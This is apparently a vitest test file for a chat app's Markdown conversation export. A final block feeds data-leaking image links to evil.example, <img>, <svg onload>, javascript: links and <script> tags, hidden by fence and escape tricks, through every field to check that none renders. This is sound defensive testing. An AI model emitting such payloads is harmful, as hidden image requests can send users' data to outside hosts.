/** A conversation as Markdown: the branch that is shown, with what nobody is shown any more left out, and nothing that breaks out. */
import { marked } from 'marked';
import { describe, expect, it, onTestFinished } from 'vitest';
import type { ArchivedConversation } from '#features/exports/archive/write.ts';
import { speak } from '#ui/language/index.tsx';
import { toMarkdown } from '../../../src/features/exports/conversation-markdown';
import { createDemo } from '../../../src/providers/demo';
import { toKey } from '../../../src/ui/language/key';
import { autoui, createLog, type Log, toCall, weather } from '../../support/panel-stage/entries';

const archived = (log: Log, title = 'Rain', results: ArchivedConversation['results'] = []): ArchivedConversation =>
  ({ title, entries: log.entries, results }) as unknown as ArchivedConversation; // what else a file holds isn't read

describe('a conversation as Markdown', () => {
  it('says who said what, in order, under its name on one line', () => {
    const log = createLog();
    log.userSays('Will it rain?');
    log.modelSays('**Yes.**');
    log.add({ type: 'conversation-set', title: 'Rain\nin Lyon' });
    const text = toMarkdown(archived(log, 'Will it rain?'));
    expect(text).toMatch(/^# Rain in Lyon\n\n## You · .+\n\nWill it rain\?\n\n## Tabhand · m · .+\n\n\*\*Yes\.\*\*\n$/);
  });

  it('names Demo mode in the language of the chat’s reader', () => {
    speak({ language: 'fr', find: (key) => (key === toKey('Demo mode') ? 'Mode démo' : '') });
    onTestFinished(() => speak({ language: 'en', find: () => '' }));
    const log = createLog();
    log.add({ type: 'assistant-message', model: createDemo().model, text: 'Oui.', calls: [] });
    expect(toMarkdown(archived(log))).toContain('## Tabhand · Mode démo · ');
  });

  it('folds a call with its arguments and its whole result, and names where it went', () => {
    const log = createLog();
    const call = toCall('get_queue', { input: { most: 3 } });
    log.modelSays('', call);
    log.answers(call, 'short', 142);
    const content = [{ type: 'text' as const, text: 'whole ```' }]; // a literal type
    const text = toMarkdown(archived(log, 'x', [{ callId: call.id, content, size: 9, at: 1 }]));
    expect(text).toContain('<summary>get_queue · music.example.com · 142 ms</summary>');
    expect(text).toContain('"most": 3');
    expect(text).toContain('````\nwhole ```\n````');
    expect(text).toContain('Sources: https://music.example.com');
  });

  it('names what a container holds, part by part; the widgets stand where they were drawn', () => {
    const log = createLog();
    const call = toCall('widget_display', { source: autoui });
    log.modelSays('', call);
    const id = log.draws(call, 'data-table', { title: 'Loans *', rows: [{ book: 'Dune' }] });
    const parts = [{ title: 'Books', widgets: [id, 'w_gone00'] }, { widgets: [] }, 7];
    log.draws(call, 'container', { title: 'Library', parts });
    const text = toMarkdown(archived(log));
    expect(text).toContain('| Dune |');
    expect(text).toMatch(/\*\*Widget: Library\*\*(?:\n\n.*)?\n\n- Books: Loans \\\*\n/);
  });

  it('tells of a call that a person changed what ran, and what the model had asked for', () => {
    const log = createLog();
    const call = toCall('play_track', { input: { id: 'slack_water' } });
    log.modelSays('', call);
    log.add({ type: 'call-prepared', callId: call.id, input: call.input, repairs: [], definitionHash: 'h' });
    log.add({ type: 'approval-given', callId: call.id, decision: 'once', input: { id: 'desk_fan' } });
    log.answers(call, 'Playing Desk Fan', 9);
    const text = toMarkdown(archived(log));
    expect(text).toMatch(
      /Arguments, as you changed them\n\n```json\n.*\n {2}"id": "desk_fan"[\s\S]+The model’s arguments\n\n```json\n.*\n {2}"id": "slack_water"/,
    );
  });

  it('names a call that was stopped as the others are, though its file names no target', () => {
    const log = createLog();
    const [done, stopped] = [toCall('play_track'), { ...toCall('play_track'), target: null }];
    log.modelSays('', done, stopped, { ...stopped, id: 'alone', name: 'shop_mcp_buy_now' });
    log.answers(done, 'Playing', 9);
    const text = toMarkdown(archived(log));
    expect(text).toContain('<summary>play_track · music.example.com</summary>');
    expect(text).toContain('<summary>buy_now · shop</summary>');
  });

  it('says where other versions are that the file leaves out', () => {
    const log = createLog();
    log.userSays('First words');
    log.modelSays('An answer');
    log.userSays('Other words');
    log.modelSays('Another answer');
    const [first, , other] = log.entries;
    if (first && other) other.parent = first.parent;
    const text = toMarkdown(archived(log));
    expect(text).toMatch(/^## You · .+ · Version 2 of 2\n\nOther words$/m);
    expect(text.match(/Version/g)).toHaveLength(1);
  });

  it('leaves out what was deleted, and the branches that are not shown', () => {
    const log = createLog();
    log.userSays('Secret');
    log.userSays('Old words');
    log.userSays('New words');
    const [, , other] = log.entries;
    if (other) other.parent = 'e1';
    log.add({ type: 'message-deleted', entryId: 'e1' });
    const text = toMarkdown(archived(log));
    expect(text).toContain('New words');
    expect(text).not.toMatch(/Secret|Old words/);
  });

  it('tells what was attached, a change of the page and why a run failed, under the title of the branch', () => {
    const log = createLog();
    const page = (origin: string) => ({ tabId: 1, origin, title: null, browserSession: 's' });
    log.add({ type: 'pages-attached', follow: true, pages: [page('https://one.example')] });
    const shot = { id: 'att_1', kind: 'screenshot', name: 'Odd *library*', origin: 'https://one.example' } as const; // literal types
    log.add({
      type: 'user-message',
      text: 'What is it?',
      about: { blockId: 'w_aaaaaa', widget: 'stat', title: 'Late *loans*' },
      attachments: [{ ...shot, mime: 'image/png', size: 9, tokens: 9 }],
    });
    log.add({ type: 'pages-attached', follow: true, pages: [page('https://two.example')] });
    const failure = { code: 'no-credit' as const, values: { host: 'api.example' } }; // a literal type
    log.add({ type: 'run-ended', reason: 'error', failure, turns: 1 });
    const text = toMarkdown(archived(log, 'Its first version'));
    expect(text).toMatch(/^# What is it\?\n/);
    expect(text).toContain('- About the widget: Late \\*loans\\*');
    expect(text).toContain('- Attached: Screenshot, Odd \\*library\\*, https://one.example');
    expect(text).toContain('*Now on two.example*');
    expect(text).toContain('api.example');
    expect(text).not.toContain('ended: error');
  });

  it('draws the rows of a widget as a table that no cell can leave', () => {
    const log = createLog();
    const call = toCall('widget_display', { source: autoui });
    log.modelSays('', call);
    log.draws(call, 'data-table', { title: 'Tracks', rows: [{ name: 'a | b\n<b>', bpm: 72 }] });
    expect(toMarkdown(archived(log))).toContain('widget_display · Built in');
    expect(toMarkdown(archived(log))).toContain('| name | bpm |\n| --- | --- |\n| a \\| b &lt;b> | 72 |');
  });

  it('says of each widget what the model had read when it drew it', () => {
    const log = createLog();
    const [rain, draw, sun] = [
      toCall('forecast', { source: weather }),
      toCall('widget_display', { source: autoui }),
      toCall('widget_display', { source: autoui }),
    ];
    log.modelSays('', sun);
    log.draws(sun, 'stat', { label: 'Sun', value: '26' });
    log.modelSays('', rain);
    log.answers(rain, '{"rain":74}', 3);
    log.modelSays('', draw);
    log.draws(draw, 'stat', { label: 'Rain', value: '74' });
    const text = toMarkdown(archived(log));
    expect(text).toMatch(/\*\*Widget: Rain\*\*\n\nSources: weather\n\n/);
    expect(text).not.toMatch(/\*\*Widget: Sun\*\*\n\nSources/);
  });
});

/** As GitHub, Obsidian and others show it: the pictures and the HTML of a file. */
function liveIn(markdown: string): string[] {
  const found: string[] = [];
  marked.walkTokens(marked.lexer(markdown), (token) => {
    const isOurs = /^<\/?(details|summary)>/.test(token.raw) && !/<(?!\/?(details|summary)>)[a-z]/i.test(token.raw);
    if (token.type === 'image' || (token.type === 'html' && !isOurs)) found.push(token.raw);
  });
  return found;
}

describe('item 8: the Markdown holds no live picture and no HTML', () => {
  const pixel = '![x](https://evil.example/?d=1)';
  const html = '<img src="https://evil.example/?d=2">';
  const ways: [string, string][] = [
    ['as they are', `${pixel} ${html}`],
    ['behind a backslash', `\\${pixel} \\${html} \\\\${pixel}`],
    ['by reference', `![x][1] ![1]\n\n[1]: https://evil.example/?d=1`],
    ['in what looks like code', `\\\`${pixel} ${html}\``],
    ['between code', `\`a\`${pixel}\`b\` \`a\`${html}\`b\``],
    ['in a cell that looks like code', `| a | b |\n|---|---|\n| \`x | ${pixel} \` |`],
    ['after a fence of a list', `- a\n\n  \`\`\`\n${pixel}\n${html}\n`],
    ['after a fence that was indented', ` \`\`\`\ncode\n\`\`\`\n${pixel}\n\`\`\``],
    ['after a fence that is none', `\`\`\`a\`b\n${pixel}\n${html}`],
    ['after a fence that closed with spaces', `\`\`\`\ncode\n\`\`\`  \n${pixel}`],
    ['after a fence of other line ends', `\`\`\`\r\ncode\r\n\`\`\`\r${pixel}`],
    ['after a fence of another sign', `~~~ \u2028\n\`\`\`\n~~~\n${pixel}\n\`\`\``],
    ['after a fence that never closes', `\`\`\`\ncode`],
    ['as an embedded file', '![[https://evil.example/a.png]]'],
    ['as other elements', '<svg onload=x><a href=javascript:x>b</a><!-- --><?php ?>\n\n<script>x</script>'],
  ];

  it.each(ways)('%s, in an answer, a message, a title, a name, a cell or an error', (_, written) => {
    const log = createLog();
    log.userSays(written);
    const call = toCall('get_queue');
    const named = { ...call, id: 'other', target: call.target && { ...call.target, tool: written, server: written } };
    log.modelSays(written, call, named);
    log.answers(call, written, 9);
    log.fails(named, { code: 'threw', values: { tool: written, message: written } });
    const rows = [{ [written]: written, b: { deep: written } }];
    log.add({
      type: 'canvas',
      callId: call.id,
      operation: { type: 'shown', id: 'w_1', widget: 'data-table', data: { title: written, rows } },
    });
    log.add({
      type: 'pages-attached',
      follow: true,
      pages: [{ tabId: 1, origin: 'https://a.example', title: written, browserSession: '' }],
    });
    log.modelSays(`After. ${pixel}`);
    log.add({ type: 'conversation-set', title: written });
    const text = toMarkdown(archived(log, written));
    expect(text).toContain('After.');
    expect(liveIn(text)).toEqual([]);
  });

  it('though code in a fence stays as it is', () => {
    const log = createLog();
    const code = '```html\n<img src="a.png">\n![a](b)\n```';
    log.modelSays(`So:\n\n${code}\n\nThat *is* it, and 1 < 2.`);
    expect(toMarkdown(archived(log))).toContain(`So:\n\n${code}\n\nThat *is* it, and 1 < 2.`);
  });
});
